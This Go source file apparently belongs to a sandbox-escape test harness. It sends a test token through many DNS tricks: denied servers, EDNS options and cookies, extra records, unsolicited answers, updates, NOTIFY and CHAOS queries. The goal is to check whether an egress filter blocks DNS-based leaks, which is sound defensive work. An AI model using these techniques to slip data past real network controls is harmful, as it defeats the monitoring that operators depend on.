package escapes

import (
	"encoding/hex"
	"fmt"
	"net/netip"

	"github.com/miekg/dns"
)

// udpDNSAttempts send what looks like questions for a name.
func udpDNSAttempts() []Attempt {
	outer := []Need{NeedOuter}
	elsewhere := func(g *Ground) netip.AddrPort { return netip.AddrPortFrom(g.Denied.V4, 53) }
	return append(udpNameserverAttempts(), []Attempt{
		{Name: "udp/dns-other-server", Does: "ask another server than the machine's", Needs: outer, Try: asking(elsewhere, func(g *Ground, q *dns.Msg) {
			q.SetQuestion(g.Token+".denied.test.", dns.TypeA)
		})},
		{Name: "udp/dns-other-port", Does: "ask a server on another port", Try: asking(denied4, func(g *Ground, q *dns.Msg) {
			q.SetQuestion(g.Token+".denied.test.", dns.TypeTXT)
		})},
		{Name: "udp/dns-allowed-peer", Does: "ask the allowed peer as if it were a server", Needs: outer, Try: asking(func(g *Ground) netip.AddrPort {
			return netip.AddrPortFrom(g.Allowed.V4, 53)
		}, func(g *Ground, q *dns.Msg) { q.SetQuestion(g.Token+".denied.test.", dns.TypeA) })},
		{Name: "udp/dns-connected", Does: "connect to another server, and write a question", Needs: outer, Try: func(g *Ground) error {
			s, err := datagramTo(elsewhere(g))
			if err != nil {
				return err
			}
			if err := s.connect(sockaddr(elsewhere(g))); err != nil {
				return err
			}
			b, err := new(dns.Msg).SetQuestion(g.Token+".denied.test.", dns.TypeNULL).Pack()
			if err != nil {
				return err
			}
			return s.write(b)
		}},
		{Name: "udp/dns-raw", Does: "send what is no question to a name server's port", Needs: outer, Try: func(g *Ground) error {
			s, err := datagramTo(elsewhere(g))
			if err != nil {
				return err
			}
			return s.sendto([]byte(g.Token), 0, sockaddr(elsewhere(g)))
		}},
	}...)
}

// udpNameserverAttempts ask the machine's own name server, and say more than a
// question does.
func udpNameserverAttempts() []Attempt {
	server := func(g *Ground) netip.AddrPort { return g.Nameserver }
	list := []Attempt{
		{Name: "udp/dns-below-allowed", Does: "ask for a name below the allowed one", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.SetQuestion(dns.Fqdn(g.Token+"."+g.AllowedName), dns.TypeA)
		})},
		{Name: "udp/dns-option", Does: "ask for the allowed name, with an option of its own", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.SetEdns0(dns.DefaultMsgSize, false)
			opt := q.IsEdns0()
			opt.Option = append(opt.Option, &dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: []byte(g.Token)})
		})},
		{Name: "udp/dns-cookie", Does: "ask for the allowed name, with a cookie", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.SetEdns0(dns.DefaultMsgSize, false)
			opt := q.IsEdns0()
			opt.Option = append(opt.Option, &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: hex.EncodeToString([]byte(g.Token))})
		})},
		{Name: "udp/dns-additional", Does: "ask for the allowed name, with a record behind", Try: asking(server, func(g *Ground, q *dns.Msg) {
			head := dns.RR_Header{Name: "x.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}
			q.Extra = append(q.Extra, &dns.TXT{Hdr: head, Txt: []string{g.Token}})
		})},
		{Name: "udp/dns-two-questions", Does: "ask for the allowed name and another at once", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.Question = append(q.Question, dns.Question{Name: g.Token + ".denied.test.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		})},
		{Name: "udp/dns-answer", Does: "send an answer nobody asked for", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.Response = true
			head := dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeTXT, Class: dns.ClassINET}
			q.Answer = append(q.Answer, &dns.TXT{Hdr: head, Txt: []string{g.Token}})
		})},
		{Name: "udp/dns-update", Does: "send an update of the allowed zone", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.SetUpdate(dns.Fqdn(g.AllowedName))
			head := dns.RR_Header{Name: "x." + dns.Fqdn(g.AllowedName), Rrtype: dns.TypeTXT, Class: dns.ClassINET}
			q.Insert([]dns.RR{&dns.TXT{Hdr: head, Txt: []string{g.Token}}})
		})},
		{Name: "udp/dns-notify", Does: "send a notification about a zone", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.SetNotify(g.Token + ".denied.test.")
		})},
		{Name: "udp/dns-class", Does: "ask in another class than the internet's", Try: asking(server, func(g *Ground, q *dns.Msg) {
			q.SetQuestion(g.Token+".bind.", dns.TypeTXT)
			q.Question[0].Qclass = dns.ClassCHAOS
		})},
		{Name: "udp/dns-trailing", Does: "ask for the allowed name, with bytes behind the question", Try: func(g *Ground) error {
			b, err := allowedQuestion(g).Pack()
			if err != nil {
				return err
			}
			return sendTo(server(g), append(b, g.Token...))
		}},
	}
	for i := range list {
		list[i].Needs = []Need{NeedNames}
	}
	return list
}

// allowedQuestion asks for the allowed name.
func allowedQuestion(g *Ground) *dns.Msg {
	return new(dns.Msg).SetQuestion(dns.Fqdn(g.AllowedName), dns.TypeA)
}

// asking sends a question for the allowed name, changed as it is told.
func asking(server func(*Ground) netip.AddrPort, change func(*Ground, *dns.Msg)) func(*Ground) error {
	return func(g *Ground) error {
		q := allowedQuestion(g)
		change(g, q)
		b, err := q.Pack()
		if err != nil {
			return fmt.Errorf("write question: %w", err)
		}
		return sendTo(server(g), b)
	}
}

// sendTo sends one datagram, and waits for an answer to it.
func sendTo(to netip.AddrPort, b []byte) error {
	s, err := datagramTo(to)
	if err != nil {
		return err
	}
	if err := s.sendto(b, 0, sockaddr(to)); err != nil {
		return err
	}
	return s.readable(attemptTime / 4)
}
